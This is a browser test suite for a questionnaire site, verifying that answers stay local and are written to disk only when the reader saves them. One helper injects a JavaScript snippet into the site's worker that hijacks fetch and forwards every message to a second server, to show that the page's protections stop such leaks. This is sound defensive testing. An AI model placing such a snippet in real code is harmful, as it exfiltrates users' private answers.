"""Answers never leave the machine, and reach its disk only when the reader asks."""

from __future__ import annotations

import json
import os
import re
import signal
from pathlib import Path
from urllib.parse import unquote, urlsplit

import hosts
import pytest
from conftest import launch_options
from playwright.sync_api import expect

ROOT = Path(__file__).parents[2]
SITE = ROOT / "site"
LOADING = 20_000
# Each item has its own answer, so that two runs share as few as can be.
RISING = {"fp-01": "1", "fp-04": "2", "fp-09": "3", "fp-10": "4"}
FALLING = {"fp-01": "5", "fp-04": "4", "fp-09": "2", "fp-10": "not_applicable"}
# What no file of the site holds, but a report or a saved answer does.
REPORT_WORDS = ["You answered: <strong>never", '"fp-01":1', '"fp-01": 1']
# The browser's own calls home, which start with it and not with a page.
BROWSERS_OWN = (".google.com", ".googleapis.com", ".gvt1.com")


def press(page, name):
    page.get_by_role("button", name=name, exact=True).click()


def take(page, url, answers, *, save=True):
    """Answer the short form, read the report, save what can be saved to a file."""
    page.goto(f"{url}/leader.html")
    page.get_by_role("radio", name="Short form").check()
    press(page, "Start")
    for area in ("fp", "ms", "wo", "uo"):
        for item, value in answers.items():
            name = item.replace("fp", area)
            page.locator(f"input[name='{name}'][value='{value}']").check()
        press(page, "Continue")
    press(page, "See your report")
    expect(page.get_by_role("heading", level=1)).to_have_text("Your report", timeout=LOADING)
    if save:
        with page.expect_download():
            page.get_by_role("button", name="Download the report").click()
        with page.expect_download():
            press(page, "Save to a file")


def watched_run(browser, answers):
    """Return all requests of a run, as the browser and as the server saw them."""
    seen, sockets = [], []
    with hosts.serving(SITE) as host:
        context = browser.new_context()
        context.on("request", lambda r: seen.append((r.method, r.url.replace(host.url, ""))))
        page = context.new_page()
        page.on("websocket", lambda socket: sockets.append(socket.url))
        take(page, host.url, answers)
        context.close()
        log = sorted(host.log)
    return seen, sockets, log


def test_every_request_is_a_get_of_a_known_file_and_no_answer_changes_any(browser):
    first = watched_run(browser, RISING)
    second = watched_run(browser, FALLING)
    for seen, sockets, log in (first, second):
        assert sockets == []
        files = [path for method, path in seen if not path.startswith(("blob:", "data:"))]
        assert {method for method, _ in seen} == {"GET"}
        assert [path for path in files if not (SITE / path.lstrip("/")).is_file()] == []
        assert [path for path in log if not (SITE / path.lstrip("/")).is_file()] == []
    # Blob addresses are drawn at random; what they name was made on the page.
    assert without_blobs(first[0]) == without_blobs(second[0])
    assert first[2] == second[2]


def without_blobs(seen):
    return sorted(entry for entry in seen if not entry[1].startswith("blob:"))


def test_nothing_is_asked_for_once_answering_and_scoring_go_on(browser):
    with hosts.serving(SITE) as host:
        context = browser.new_context()
        page = context.new_page()
        take(page, host.url, RISING)
        before = list(host.log)
        press(page, "Change your answers")
        page.get_by_role("link", name="Change").first.click()
        page.locator("input[name='fp-01'][value='5']").check()
        press(page, "Continue")
        press(page, "See your report")
        expect(page.get_by_role("heading", level=1)).to_have_text("Your report", timeout=LOADING)
        context.close()
        assert host.log == before


def persistent(browser, folder, flags=()):
    """Start a browser of its own with a profile on disk."""
    return browser.browser_type.launch_persistent_context(str(folder), **launch_options(*flags))


def profile_run(browser, folder, host, *, flags=()):
    """Answer in a profile on disk, then close it; nothing is saved by the reader."""
    context = persistent(browser, folder, flags)
    page = context.pages[0]
    take(page, host.url, RISING, save=False)
    # The browser writes its session file a few seconds after a change.
    page.wait_for_timeout(6000)
    context.close()


def traces(folder, words):
    """Return the files of a profile that hold one of the words, in either encoding.

    The cache holds the site's own files, which name the items; so it is searched for
    what only a reader's answers bring about.
    """
    found = []
    for file in folder.rglob("*"):
        if not file.is_file():
            continue
        data = file.read_bytes()
        cached = "Cache" in str(file.relative_to(folder))
        found += [
            (file.relative_to(folder).as_posix(), word)
            for word in (REPORT_WORDS if cached else [*words, *REPORT_WORDS])
            if word.encode() in data or word.encode("utf-16-le") in data
        ]
    return found


def test_nothing_reaches_the_disk_unasked(browser, tmp_path):
    with hosts.serving(SITE) as host:
        profile_run(browser, tmp_path / "profile", host)
    assert traces(tmp_path / "profile", ["fp-01", "ms-10"]) == []


def test_the_search_of_the_disk_finds_answers_where_the_form_lets_the_browser_keep_them(
    browser, tmp_path
):
    page = (SITE / "leader.html").read_bytes()
    assert b'autocomplete="off"' in page
    with hosts.serving(SITE) as host:
        host.replaced["leader.html"] = page.replace(b'autocomplete="off"', b"")
        profile_run(browser, tmp_path / "profile", host)
    assert [file for file, _ in traces(tmp_path / "profile", ["fp-01"]) if "Session" in file]


def test_the_browsers_own_log_of_the_network_knows_this_host_alone(browser, tmp_path):
    log = tmp_path / "net.json"
    flags = [
        *(f"--log-net-log={log}", "--net-log-capture-mode=Everything"),
        # So that the browser's own calls home send no datagrams to a name server.
        "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
    ]
    with hosts.serving(SITE) as host:
        profile_run(browser, tmp_path / "profile", host, flags=flags)
        data = json.loads(log.read_text(encoding="utf-8"))
        kinds = {number: name for name, number in data["constants"]["logEventTypes"].items()}
        addresses = {
            event["params"]["url"]
            for event in data["events"]
            if "url" in event.get("params", {}) and kinds[event["type"]] == "URL_REQUEST_START_JOB"
        }
        assert f"{host.url}/leader.html" in addresses
        asked = {urlsplit(url).netloc for url in addresses if url.startswith("http")}
        others = {name for name in asked if not name.endswith(BROWSERS_OWN)}
        assert others == {urlsplit(host.url).netloc}
        assert "UDP_BYTES_SENT" not in {kinds[event["type"]] for event in data["events"]}


def hostile_run(browser, *, from_url):
    """Answer with a worker that sends every message elsewhere; return what arrived there.

    ``from_url`` takes both walls away: the worker comes from a URL, so that it has no
    policy, and it took hold of fetch before the seal.
    """
    with hosts.serving(SITE) as host, hosts.serving(SITE) as elsewhere:
        (worker,) = (SITE / "assets" / "pi").glob("worker.*.js")
        (script,) = (SITE / "assets" / "pi").glob("questionnaire.*.js")
        leak = (
            "const fetched = fetch.bind(self); self.addEventListener('message', (event) =>"
            f" fetched('{elsewhere.url}/?' + encodeURIComponent(JSON.stringify(event.data)))"
            ".catch(() => {}));\n"
        )
        host.replaced[worker.name] = leak.encode() + worker.read_bytes()
        if from_url:
            code, changed = re.subn(
                rb"new Worker\(\w+,",
                f'new Worker("/assets/pi/{worker.name}",'.encode(),
                script.read_bytes(),
            )
            assert changed == 1
            host.replaced[script.name] = code
        context = browser.new_context()
        take(context.new_page(), host.url, RISING, save=False)
        context.close()
        return [unquote(path) for path in elsewhere.log]


def test_even_a_hostile_worker_gets_no_answer_out_of_the_page(browser):
    assert hostile_run(browser, from_url=False) == []


def test_the_same_page_leaks_when_its_worker_comes_from_a_url_without_a_seal(browser):
    assert any("fp-01" in path for path in hostile_run(browser, from_url=True))


def test_a_draft_saved_on_the_device_survives_a_crash_of_the_browser(browser, tmp_path):
    with hosts.serving(SITE) as host:
        first = persistent(browser, tmp_path)
        page = first.pages[0]
        page.goto(f"{host.url}/leader.html")
        page.get_by_role("radio", name="Short form").check()
        press(page, "Start")
        page.locator("input[name='fp-01'][value='2']").check()
        press(page, "Save on this device")
        # The browser writes storage to disk a few seconds after a change.
        page.wait_for_timeout(8000)
        for process in processes(tmp_path):
            os.kill(process, signal.SIGKILL)
        # The lock of the browser that died; a person's browser asks and takes it over.
        for lock in tmp_path.glob("Singleton*"):
            lock.unlink()
        second = persistent(browser, tmp_path)
        page = second.pages[0]
        page.goto(f"{host.url}/leader.html")
        page.get_by_role("button", name="Continue the draft").click()
        expect(page.locator("input[name='fp-01'][value='2']")).to_be_checked(timeout=LOADING)
        second.close()


def processes(profile):
    """Return the browser's processes that use a profile, by the command lines in /proc."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            line = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        if entry.name.isdigit() and f"--user-data-dir={profile}".encode() in line:
            found.append(int(entry.name))
    return found


@pytest.mark.parametrize("name", sorted(f.name for f in SITE.glob("*.html")))
def test_a_page_sets_no_cookie_and_stores_nothing(browser, site_url, name):
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{site_url}/{name}")
    page.wait_for_load_state("networkidle")
    stored = page.evaluate(
        "() => [document.cookie, Object.keys(localStorage), Object.keys(sessionStorage),"
        " history.state]"
    )
    assert context.cookies() == []
    context.close()
    assert stored == ["", [], [], None]
